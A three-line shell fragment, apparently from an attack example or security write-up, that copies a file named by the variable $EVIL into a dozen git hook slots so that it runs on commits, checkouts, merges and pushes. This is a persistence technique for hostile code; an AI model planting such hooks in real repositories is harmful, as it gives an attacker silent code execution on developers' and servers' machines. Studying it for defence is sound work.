for hook in pre-commit prepare-commit-msg commit-msg post-commit post-checkout pre-auto-gc post-rewrite reference-transaction post-index-change post-merge update pre-receive; do
    cp "$EVIL" ".git/hooks/$hook"
done
